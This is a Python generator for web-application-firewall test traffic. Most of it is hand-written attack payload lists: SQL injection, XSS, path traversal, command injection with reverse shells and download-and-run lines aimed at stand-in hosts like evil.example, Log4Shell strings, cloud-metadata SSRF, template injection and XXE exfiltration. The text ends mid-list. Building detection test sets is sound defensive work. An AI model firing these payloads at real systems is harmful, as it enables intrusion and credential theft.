#!/usr/bin/env python3
"""Held-out WAF test traffic generator (standard library only).

Writes OUT_DIR/probe-attacks.jsonl (expect=detect) and OUT_DIR/probe-benign.jsonl
(expect=pass), OUT_DIR being the first argument (default: rulesets/tests/data).
Deterministic (fixed seed): `python3 scripts/corpus-probe.py` rewrites the repository's copy.

Written 2026-12-04 by a session that had not read the rules, as held-out traffic; the rule
fixes of that day were made against it (see rulesets/tests/corpus.rs), so it is a
regression set now, not held out. Write the next held-out set without looking at this one.

Payloads are hand-written from general knowledge of each attack class; the
generator never reads any WAF ruleset or existing corpus.
"""
import base64
import collections
import gzip
import json
import os
import random
import struct
import sys
import unicodedata
import uuid
import zlib
from urllib.parse import quote, quote_plus

OUT_DIR = (sys.argv[1] if len(sys.argv) > 1 else
           os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "rulesets", "tests", "data"))
SEED = 20240917
HOST = "app.example"

# ---------------------------------------------------------------------------
# common request pieces
# ---------------------------------------------------------------------------
UA_BROWSER = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.67",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:126.0) Gecko/20100101 Firefox/126.0",
]
UA_API = [
    "okhttp/4.12.0",
    "axios/1.6.8",
    "python-requests/2.31.0",
    "PostmanRuntime/7.37.3",
    "Dart/3.3 (dart:io)",
    "ShopApp/5.12.1 (iPhone; iOS 17.4.1; Scale/3.00)",
    "ShopApp/5.12.0 (Android 14; SM-S918B)",
    "Go-http-client/2.0",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
]
ACCEPT_LANG = [
    "en-US,en;q=0.9",
    "en-GB,en;q=0.9,en-US;q=0.8",
    "fr-FR,fr;q=0.9,en-US;q=0.8,en;q=0.7",
    "de-DE,de;q=0.9,en;q=0.8",
    "es-ES,es;q=0.9,en;q=0.8,pt;q=0.6",
    "zh-CN,zh;q=0.9,en;q=0.8",
    "ar-SA,ar;q=0.9,en-US;q=0.8,en;q=0.7",
    "ja-JP,ja;q=0.9,en-US;q=0.8,en;q=0.7",
    "pt-BR,pt;q=0.9,en-US;q=0.8,en;q=0.7",
    "nl-NL,nl;q=0.9,en-US;q=0.8,en;q=0.7,de;q=0.6",
]
ACCEPT_HTML = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"
ACCEPT_JSON = "application/json, text/plain, */*"


def b64url(b):
    return base64.urlsafe_b64encode(b).rstrip(b"=").decode()


class Ctx:
    """Shared deterministic helpers."""

    def __init__(self, seed):
        self.rng = random.Random(seed)

    def choice(self, seq):
        return self.rng.choice(seq)

    def uuid4(self):
        return str(uuid.UUID(int=self.rng.getrandbits(128), version=4))

    def hexs(self, n):
        return "".join(self.rng.choice("0123456789abcdef") for _ in range(n))

    def alnum(self, n):
        return "".join(self.rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789") for _ in range(n))

    def boundary(self):
        if self.rng.random() < 0.6:
            return "----WebKitFormBoundary" + self.alnum(16)
        if self.rng.random() < 0.5:
            return "---------------------------" + "".join(self.rng.choice("0123456789") for _ in range(28))
        return "----formdata-undici-0" + "".join(self.rng.choice("0123456789") for _ in range(11))

    def iso(self, year=2024):
        return "%04d-%02d-%02dT%02d:%02d:%02d.%03dZ" % (
            year, self.rng.randint(1, 12), self.rng.randint(1, 28), self.rng.randint(0, 23),
            self.rng.randint(0, 59), self.rng.randint(0, 59), self.rng.randint(0, 999))

    def jwt(self):
        alg = self.choice(["RS256", "HS256", "ES256"])
        hdr = {"alg": alg, "typ": "JWT"}
        if alg != "HS256":
            hdr["kid"] = self.alnum(22)
        iat = self.rng.randint(1710000000, 1716000000)
        payload = {"sub": str(self.rng.randint(1000, 999999)), "iss": "https://auth.app.example/",
                   "aud": "app-api", "iat": iat, "exp": iat + 3600,
                   "scope": self.choice(["openid profile email", "read:orders write:orders", "openid offline_access"]),
                   "email": "user%d@mail.example" % self.rng.randint(1, 9999)}
        sig_len = {"RS256": 256, "HS256": 32, "ES256": 64}[alg]
        sig = bytes(self.rng.getrandbits(8) for _ in range(sig_len))
        return ".".join([b64url(json.dumps(hdr, separators=(",", ":")).encode()),
                         b64url(json.dumps(payload, separators=(",", ":")).encode()), b64url(sig)])

    def analytics_cookies(self):
        t = self.rng.randint(1700000000, 1716000000)
        parts = [
            "_ga=GA1.1.%d.%d" % (self.rng.randint(100000000, 999999999), t),
            "_ga_%s=GS1.1.%d.%d.1.1.%d.60.0.0" % (self.alnum(10).upper(), t + 500, self.rng.randint(2, 40), t + 900),
            "_gid=GA1.2.%d.%d" % (self.rng.randint(100000000, 999999999), t + 86000),
            "_fbp=fb.1.%d.%d" % (t * 1000 + self.rng.randint(0, 999), self.rng.randint(100000000, 999999999)),
        ]
        if self.rng.random() < 0.6:
            parts.append("ajs_anonymous_id=%22" + self.uuid4() + "%22")
        if self.rng.random() < 0.5:
            parts.append("OptanonConsent=isGpcEnabled=0&datestamp=Mon+Mar+04+2024+10%3A12%3A33+GMT%2B0100+(Central+European+Standard+Time)&version=202310.1.0&browserGpcFlag=0&isIABGlobal=false&hosts=&consentId="
                         + self.uuid4() + "&interactionCount=1&landingPath=NotLandingPage&groups=C0001%3A1%2CC0002%3A1%2CC0003%3A0%2CC0004%3A0")
        if self.rng.random() < 0.4:
            parts.append("intercom-session-%s=%s" % (self.alnum(8).lower(), b64url(bytes(self.rng.getrandbits(8) for _ in range(60)))))
        if self.rng.random() < 0.4:
            parts.append("_hjSessionUser_%d=%s" % (self.rng.randint(100000, 999999), base64.b64encode(json.dumps(
                {"id": self.hexs(16), "created": t * 1000, "existing": True}, separators=(",", ":")).encode()).decode()))
        parts.append("session=" + b64url(bytes(self.rng.getrandbits(8) for _ in range(48))))
        self.rng.shuffle(parts)
        return "; ".join(parts)

    def headers(self, kind="browser", accept=None, extra=None, ua=None):
        h = [["Host", HOST]]
        if kind == "browser":
            h.append(["User-Agent", ua or self.choice(UA_BROWSER)])
            h.append(["Accept", accept or ACCEPT_HTML])
            h.append(["Accept-Language", self.choice(ACCEPT_LANG)])
            h.append(["Accept-Encoding", "gzip, deflate, br"])
        else:
            h.append(["User-Agent", ua or self.choice(UA_API)])
            h.append(["Accept", accept or "application/json"])
            if self.rng.random() < 0.5:
                h.append(["Accept-Language", self.choice(ACCEPT_LANG)])
            h.append(["Accept-Encoding", "gzip"])
        for kv in (extra or []):
            h.append(list(kv))
        return h


def multipart_body(boundary, parts):
    """parts: list of (name, value, filename or None, content_type or None)."""
    out = []
    for name, value, fn, ct in parts:
        disp = 'Content-Disposition: form-data; name="%s"' % name
        if fn is not None:
            disp += '; filename="%s"' % fn
        out.append("--" + boundary + "\r\n" + disp + "\r\n")
        if ct:
            out.append("Content-Type: " + ct + "\r\n")
        out.append("\r\n" + value + "\r\n")
    out.append("--" + boundary + "--\r\n")
    return "".join(out)


def enc_strict(s):
    return quote(s, safe="")


def enc_browser(s):
    # roughly what a browser leaves alone in a query component
    return quote(s, safe="/:,()*!'@$~")


def enc_form(s):
    return quote_plus(s, safe="")


def enc_cookie(s):
    # encode only what cannot appear in a cookie-octet (plus '%')
    return quote(s, safe="!#$&'()*+/:<=>?@[]^`{|}~-._")


def header_safe(s):
    return all(32 <= ord(c) < 127 for c in s)


# ---------------------------------------------------------------------------
# PHP serialization helper (correct length prefixes)
# ---------------------------------------------------------------------------
def php_ser(v):
    if v is None:
        return "N;"
    if isinstance(v, bool):
        return "b:%d;" % int(v)
    if isinstance(v, int):
        return "i:%d;" % v
    if isinstance(v, str):
        return 's:%d:"%s";' % (len(v.encode()), v)
    if isinstance(v, list):
        return "a:%d:{%s}" % (len(v), "".join(php_ser(i) + php_ser(x) for i, x in enumerate(v)))
    if isinstance(v, dict):
        return "a:%d:{%s}" % (len(v), "".join(php_ser(k) + php_ser(x) for k, x in v.items()))
    if isinstance(v, tuple) and v[0] == "obj":   # ("obj", classname, [(prop, value), ...])
        _, cls, props = v
        return 'O:%d:"%s":%d:{%s}' % (len(cls), cls, len(props), "".join(php_ser(k) + php_ser(x) for k, x in props))
    raise TypeError(v)


def java_ser_blob(classname):
    """Minimal Java serialization stream header (TC_OBJECT/TC_CLASSDESC) for a class."""
    cn = classname.encode()
    b = b"\xac\xed\x00\x05" + b"\x73\x72" + struct.pack(">H", len(cn)) + cn
    b += bytes.fromhex("5f2e8f6b0c0d9a21") + b"\x02\x00\x01" + b"L\x00\x0biMethodNamet\x00\x12Ljava/lang/String;xp" + b"t\x00\x04exec"
    return b


# ---------------------------------------------------------------------------
# ATTACK PAYLOADS
# Each entry: str, or dict with keys:
#   p        : the decoded payload value (what the app sees)
#   enc      : pre-encoded form for query/form (used instead of encoding p)
#   obj      : (nosqli/java) structured JSON to inject as an object, not a string
#   url      : True if the payload is best placed in a URL-ish parameter
# ---------------------------------------------------------------------------
SQLI = [
    "' OR '1'='1' -- ",
    "admin'-- ",
    "1' OR 1=1#",
    "') OR ('a'='a",
    "\" OR \"\"=\"",
    "-1 UNION SELECT NULL,username,password FROM users--",
    "-1' UNION ALL SELECT 1,@@version,user(),4-- -",
    "1'/**/UnIoN/**/SeLeCt/**/table_name,2/**/FrOm/**/information_schema.tables#",
    "1 uNiOn\nall\nselect 1,group_concat(column_name),3 from information_schema.columns where table_name=0x7573657273",
    "1; DROP TABLE users--",
    "1'; WAITFOR DELAY '0:0:5'--",
    "1' AND SLEEP(5)-- -",
    "1' AND (SELECT 7 FROM (SELECT SLEEP(5))a)-- -",
    "1); SELECT pg_sleep(5)--",
    "1'||(SELECT CASE WHEN (1=1) THEN pg_sleep(3) ELSE pg_sleep(0) END)--",
    "1' AND 1=CAST((SELECT version()) AS int)--",
    "1' AND extractvalue(1,concat(0x7e,(SELECT user()),0x7e))-- -",
    "1' AND updatexml(1,concat(0x7e,database()),1)#",
    "' OR 1=CONVERT(int,(SELECT @@version))--",
    "1' AND 1=utl_inaddr.get_host_name((SELECT banner FROM v$version WHERE rownum=1))--",
    "' UNION SELECT NULL,sql FROM sqlite_master WHERE type='table'--",
    "1' AND ASCII(SUBSTRING((SELECT TOP 1 name FROM sysobjects),1,1))>64--",
    "1';EXEC master..xp_cmdshell 'whoami'--",
    "1' AND BENCHMARK(5000000,MD5(0x41))#",
    "' UNION SELECT '<?php system($_GET[c]);?>',2 INTO OUTFILE '/var/www/html/s.php'-- -",
    "1%' AND 2*3*8=6*8 AND 'x%'='x",
    "1' ORDER BY 12-- -",
    "1 AND (SELECT substr(password,1,1) FROM users WHERE username='admin')='a'",
    "x' aNd 1=(sElEcT count(*) fRoM all_users)--",
    {"p": "1'\tor\t1\t=\t1\t--\t"},
]

XSS = [
    "<script>alert(document.domain)</script>",
    "\"><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    {"p": "javascript:alert(document.cookie)", "url": True},
    {"p": "JaVaScRiPt:/**/alert(1)//", "url": True},
    "<a href=\"jav&#x09;ascript:alert(1)\">click me</a>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(String.fromCharCode(88,83,83))>",
    "';alert(1);//",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert`1`>",
    "<img src=x onerror=\"&#97;&#108;&#101;&#114;&#116;&#40;1&#41;\">",
    "\" autofocus onfocus=\"alert(1)",
    "<video><source onerror=\"alert(1)\">",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    "<x onpointerover=alert(1)>hover me</x>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=fetch('//evil.example/?c='+document.cookie)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "{{constructor.constructor('alert(1)')()}}",
    "<form><button formaction=javascript:alert(1)>Submit</button></form>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<ScRiPt>eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))</sCrIpT>",
    "${alert(1)}`;alert(1);`",
    "<input type=\"text\" value=\"\" onmouseover=\"alert(1)\">",
]

LFI = [
    "../../../../../../etc/passwd",
    "/etc/passwd",
    "....//....//....//....//etc/passwd",
    "..\\..\\..\\..\\windows\\win.ini",
    "C:\\Windows\\System32\\drivers\\etc\\hosts",
    "../../../../etc/shadow\x00.png",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",                    # double-encoded once placed in a URL
    {"p": "../../../etc/passwd", "enc": "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"},
    {"p": "..%c0%af..%c0%af..%c0%afetc/passwd", "enc": "..%c0%af..%c0%af..%c0%afetc/passwd"},
    "/proc/self/environ",
    "../../../../proc/self/cmdline",
    "../../../../../proc/self/fd/2",
    "../../../../var/log/apache2/access.log",
    "../../../../home/deploy/.ssh/id_rsa",
    "..//..//..//..//etc//hosts",
    "/var/www/html/../../../etc/passwd",
    "..\\..\\..\\..\\..\\boot.ini",
    "../../../../WEB-INF/web.xml",
    "....\\/....\\/....\\/etc/passwd",
    "../../../../../../../../etc/passwd\x00",
    "..\\..\\..\\inetpub\\wwwroot\\web.config",
    "../../../../app/.env",
    "/./././././etc/passwd",
    {"p": "..%u2216..%u2216..%u2216windows%u2216win.ini", "enc": "..%u2216..%u2216..%u2216windows%u2216win.ini"},
]

RFI = [
    "http://evil.example/shell.txt?",
    "https://attacker.example/payload.php",
    "http://203.0.113.7/c99.txt\x00",
    "ftp://attacker.example/pub/shell.txt",
    "\\\\attacker.example\\share\\shell.php",
    "//attacker.example/r57.txt?",
    "hTTp://evil.example/inc.txt??",
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==",
    "data:text/plain,<?php phpinfo();?>",
    "http://evil.example/shell.txt#",
    "https://pastebin.com/raw/Xk3Lp9Qa?",
    "https://raw.githubusercontent.com/attacker/tools/main/shell.php",
    "http://evil.example:8080/config.inc.txt?cmd=id",
    "ftp://anonymous:anon@198.51.100.23/pub/x.php",
    "https://evil.example/phpshell.txt?/index.php",
    "http://198.51.100.9/bot.txt",
    "HTTPS://EVIL.EXAMPLE/WSO.TXT?",
]

RCE = [
    "; id",
    "| cat /etc/passwd",
    "&& whoami",
    "`id`",
    "$(id)",
    "127.0.0.1; ls -la /",
    "127.0.0.1\nid",
    ";cat${IFS}/etc/passwd",
    ";{cat,/etc/passwd}",
    "|| curl http://evil.example/x.sh | sh",
    "; wget -qO- http://198.51.100.9/a | bash",
    "; bash -i >& /dev/tcp/198.51.100.9/4444 0>&1",
    ";c'a't /e\"t\"c/pa's's'wd",
    ";/???/??t /???/p??s??",
    "$(echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh)",
    "& dir C:\\",
    "| type C:\\Windows\\win.ini",
    "& powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')\"",
    "| cmd.exe /c net user",
    "; nc -e /bin/sh 198.51.100.9 4444",
    "x||ping -c 10 127.0.0.1||",
    "; python3 -c 'import os;os.system(\"id\")'",
    "a;w\\ho\\am\\i",
    "$(curl -s http://evil.example/$(whoami))",
    ";echo${IFS}PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg==|base64${IFS}-d>/var/www/html/x.php",
    "| perl -e 'exec \"/bin/sh\"'",
    "\n/bin/sleep 10\n",
    "\r\ncat /etc/shadow",
    "& certutil -urlcache -split -f http://evil.example/x.exe %TEMP%\\x.exe & %TEMP%\\x.exe",
]

_LARAVEL = ("obj", "Illuminate\\Broadcasting\\PendingBroadcast", [
    ("\x00*\x00events", ("obj", "Faker\\Generator", [("\x00*\x00formatters", {"dispatch": "system"})])),
    ("\x00*\x00event", "id")])
PHP = [
    "php://filter/convert.base64-encode/resource=index.php",
    "php://filter/read=string.rot13/resource=config.php",
    "php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode/resource=/etc/passwd",
    "php://input",
    "expect://id",
    "phar://uploads/avatar.jpg/test.txt",
    "zip://uploads/archive.zip#shell.php",
    "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==",
    "<?php system($_GET['cmd']); ?>",
    "<?=`$_GET[0]`?>",
    "<?php eval(base64_decode('c3lzdGVtKCdpZCcpOw=='));?>",
    "\";system('id');//",
    "';passthru('cat /etc/passwd');$a='",
    "${@eval($_POST[1])}",
    "${system('id')}",
    "call_user_func('system','id')",
    "preg_replace('/.*/e','system(\"id\")','')",
    "file_put_contents('shell.php','<?php eval($_POST[x]);?>')",
    "<?php echo shell_exec($_REQUEST['c']); ?>",
    "-d allow_url_include=1 -d auto_prepend_file=php://input",
    php_ser(("obj", "stdClass", [("file", "/etc/passwd")])),
    php_ser([("obj", "Evil_Logger", [("logFile", "/var/www/html/x.php"), ("logData", "<?php system($_GET[c]);?>")])]),
    php_ser(_LARAVEL),
    php_ser(("obj", "GuzzleHttp\\Cookie\\FileCookieJar", [("filename", "/var/www/html/shell.php"), ("storeSessionCookies", True)])),
    "assert($_REQUEST['a'])",
]

_SER = java_ser_blob("org.apache.commons.collections.functors.InvokerTransformer")
JAVA = [
    "${jndi:ldap://198.51.100.9:1389/a}",
    "${jndi:rmi://evil.example:1099/Exploit}",
    "${jndi:dns://evil.example/x}",
    "${${lower:j}ndi:${lower:l}dap://evil.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://evil.example/a}",
    "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//evil.example/a}",
    "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.evil.example/a}",
    "${${upper:j}ndi:ldaps://evil.example/a}",
    "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://evil.example/a}",
    "${jndi:${lower:l}${lower:d}a${lower:p}://${hostName}.evil.example/a}",
    "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']))).(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.start())}",
    "%{@java.lang.Runtime@getRuntime().exec('id')}",
    "${#context['xwork.MethodAccessor.denyMethodExecution']=false,@java.lang.Runtime@getRuntime().exec('id')}",
    "T(java.lang.Runtime).getRuntime().exec('id')",
    "#{T(java.lang.Runtime).getRuntime().exec('touch /tmp/pwn')}",
    "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}",
    "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}",
    "${url:UTF-8:http://evil.example/}",
    "${dns:address|evil.example}",
    base64.b64encode(_SER).decode(),
    base64.b64encode(gzip.compress(_SER, mtime=0)).decode(),
    _SER.hex(),
    {"obj": {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "rmi://evil.example:1099/Exploit", "autoCommit": True}},
    {"obj": ["com.sun.rowset.JdbcRowSetImpl", {"dataSourceName": "ldap://evil.example:1389/Exploit", "autoCommit": True}]},
    "new java.lang.ProcessBuilder(new String[]{\"/bin/sh\",\"-c\",\"id\"}).start()",
]

SSRF = [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/latest/user-data",
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://127.0.0.1:6379/",
    "http://localhost:8080/admin",
    "http://2130706433/",
    "http://0x7f000001/server-status",
    "http://0177.0.0.1/",
    "http://[::1]:22/",
    "http://[::ffff:127.0.0.1]:8500/v1/agent/self",
    "http://127.1/server-status",
    "http://0.0.0.0:9200/_cat/indices",
    "gopher://127.0.0.1:6379/_SET%20x%20%22%3C%3Fphp%20system%28%24_GET%5Bc%5D%29%3B%3F%3E%22%0D%0ACONFIG%20SET%20dir%20/var/www/html%0D%0ASAVE%0D%0A",
    "dict://127.0.0.1:11211/stats",
    "file:///etc/passwd",
    "http://evil.example@169.254.169.254/latest/meta-data/",
    "http://169.254.169.254.nip.io/latest/meta-data/",
    "http://2852039166/latest/meta-data/",
    "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets",
    "jar:http://127.0.0.1:8080/x.jar!/",
    "http://metadata/computeMetadata/v1/project/attributes/ssh-keys?alt=json",
]

SSTI = [
    "{{7*'7'}}",
    "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "{{cycler.__init__.__globals__.os.popen('id').read()}}",
    "{{lipsum.__globals__['os'].popen('cat /etc/passwd').read()}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% if \"warning\" in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen(\"id\").read()}}{% endif %}{% endfor %}",
    "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')()}}",
    "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
    "{{['id']|filter('system')}}",
    "{{['cat /etc/passwd']|map('passthru')|join}}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
    "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($ex=$rt.getRuntime().exec('id'))$ex.waitFor()",
    "<%= system('id') %>",
    "<%= `cat /etc/passwd` %>",
    "<%= File.open('/etc/passwd').read %>",
    "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
    "[[${T(java.lang.Runtime).getRuntime().exec('id')}]]",
    "{system('id')}",
    "{php}echo `id`;{/php}",
    "${self.module.cache.util.os.system(\"id\")}",
    "{% import os %}{{os.popen(\"id\").read()}}",
    "{{settings.SECRET_KEY}}",
    "#{7*7}${7*7}<%= 7*7 %>",
]

NOSQLI = [
    {"obj": {"username": {"$ne": None}, "password": {"$ne": None}}},
    {"obj": {"username": "admin", "password": {"$gt": ""}}},
    {"obj": {"username": {"$regex": "^adm"}, "password": {"$ne": "1"}}},
    {"obj": {"username": {"$in": ["admin", "root", "administrator"]}, "password": {"$gt": ""}}},
    {"obj": {"$where": "this.password.match(/^a.*/)"}},
    {"obj": {"username": "admin", "password": {"$regex": ".*"}}},
    {"obj": {"username": {"$nin": [""]}, "password": {"$nin": [""]}}},
    {"obj": {"$or": [{"username": "admin"}, {"isAdmin": True}]}},
    {"obj": {"username": "admin", "$where": "function(){return true;}"}},
    {"obj": {"filter": {"price": {"$gt": 0}, "$where": "sleep(3000)||true"}}},
    {"obj": {"resetToken": {"$ne": None}, "newPassword": "hunter2!"}},
    {"obj": {"email": {"$regex": "^.{0,}$", "$options": "si"}}},
    {"obj": {"$expr": {"$function": {"body": "function(){sleep(5000);return true}", "args": [], "lang": "js"}}}},
    {"obj": {"selector": {"_id": {"$gt": None}}}},
    {"obj": {"username": {"$gte": ""}, "password": {"$exists": True}}},
    {"obj": {"token": {"$type": 2}, "uid": {"$ne": -1}}},
    "'; return true; var foo='",
    "' || '1'=='1",
    "admin' && this.password.match(/.*/)//",
    "0;sleep(5000)",
    "1'; while(true){}; var a='",
    "{\"$gt\": \"\"}",
]

LDAPI = [
    "*)(uid=*))(|(uid=*",
    "admin)(&)",
    "admin)(|(password=*))",
    "*)(|(objectClass=*)",
    "*))\x00",
    "admin*)((|userPassword=*)",
    "*)(&(objectClass=user)(cn=*",
    "x)(|(cn=*)(mail=*))",
    "*)(userPassword=*)",
    "admin)(!(&(1=0",
    "*)(|(memberOf=cn=Domain Admins,cn=Users,dc=corp,dc=local)",
    ")(cn=*))(|(cn=*",
    "admin))(|(objectclass=*",
    "*)(sAMAccountName=*))(|(sAMAccountName=*",
    "jdoe)(|(department=*)(telephoneNumber=*))",
    "*)(uid=*)(|(uid=*",
    "admin)(|(userAccountControl:1.2.840.113556.1.4.803:=2)",
    "*)(|(description=*pass*)",
]

CRLF = [
    "\r\nSet-Cookie: sessionid=attacker123; Path=/; HttpOnly",
    "/home\r\nSet-Cookie: admin=true",
    "en\r\nX-Forwarded-Host: evil.example",
    "https://app.example/\r\nLocation: https://evil.example/",
    "\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 25\r\n\r\n<script>alert(1)</script>",
    "%0d%0aSet-Cookie: crlf=injected",
    "\nSet-Cookie: a=b; Domain=.app.example",
    "\rSet-Cookie: a=b",
    "\u560a\u560dSet-Cookie: crlf=injection",
    "/\r\n\tSet-Cookie: x=y",
    "\r\nAccess-Control-Allow-Origin: https://evil.example\r\nAccess-Control-Allow-Credentials: true",
    "\r\nX-XSS-Protection: 0\r\n\r\n<svg onload=alert(1)>",
    {"p": "%%0a0aSet-Cookie: a=b", "enc": "%%0a0aSet-Cookie:%20a=b"},
    "\r\nRefresh: 0; url=https://evil.example/",
    "\r\nLink: <https://evil.example/x.css>; rel=stylesheet",
    "/login?next=/\r\nSet-Cookie: PHPSESSID=fixated0123456789",
    {"p": "%E5%98%8A%E5%98%8DLocation: https://evil.example", "enc": "%E5%98%8A%E5%98%8DLocation:%20https://evil.example"},
    {"p": "x%0D%0AContent-Type: text/html%0D%0A%0D%0A<script>alert(1)</script>", "enc": "x%0D%0AContent-Type:%20text/html%0D%0A%0D%0A%3Cscript%3Ealert(1)%3C/script%3E"},
]

# XXE: complete XML documents (location "xml"), plus SVG uploads (multipart)
XXE = [
    '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<user><name>&xxe;</name><email>a@b.example</email></user>',
    '<?xml version="1.0"?>\n<!DOCTYPE order [<!ENTITY win SYSTEM "file:///c:/windows/win.ini">]>\n<order><id>1001</id><note>&win;</note></order>',
    '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY meta SYSTEM "http://169.254.169.254/latest/meta-data/iam/security-credentials/">]>\n<request><url>&meta;</url></request>',
    '<?xml version="1.0" ?>\n<!DOCTYPE data [<!ENTITY % remote SYSTEM "http://evil.example/evil.dtd"> %remote;]>\n<data>4</data>',
    '<?xml version="1.0"?>\n<!DOCTYPE x [\n  <!ENTITY % file SYSTEM "php://filter/convert.base64-encode/resource=/etc/passwd">\n  <!ENTITY % dtd SYSTEM "http://evil.example/exfil.dtd">\n  %dtd; %send;\n]>\n<x>test</x>',
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">\n <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">\n <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">\n <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">\n]>\n<lolz>&lol5;</lolz>',
    '<?xml version="1.0"?>\n<!DOCTYPE invoice SYSTEM "http://evil.example/invoice.dtd">\n<invoice><amount>10</amount></invoice>',
    '<?xml version="1.0"?>\n<!DOCTYPE invoice PUBLIC "-//ACME//DTD Invoice 1.0//EN" "http://198.51.100.9:8000/x.dtd">\n<invoice><amount>10</amount></invoice>',
    '<?xml version="1.0"?>\n<!DOCTYPE message [\n  <!ENTITY % local_dtd SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd">\n  <!ENTITY % ISOamso \'<!ENTITY &#x25; file SYSTEM "file:///etc/passwd"><!ENTITY &#x25; eval "<!ENTITY &#x26;#x25; error SYSTEM &#x27;file:///nonexistent/&#x25;file;&#x27;>">&#x25;eval;&#x25;error;\'>\n  %local_dtd;\n]>\n<message>x</message>',
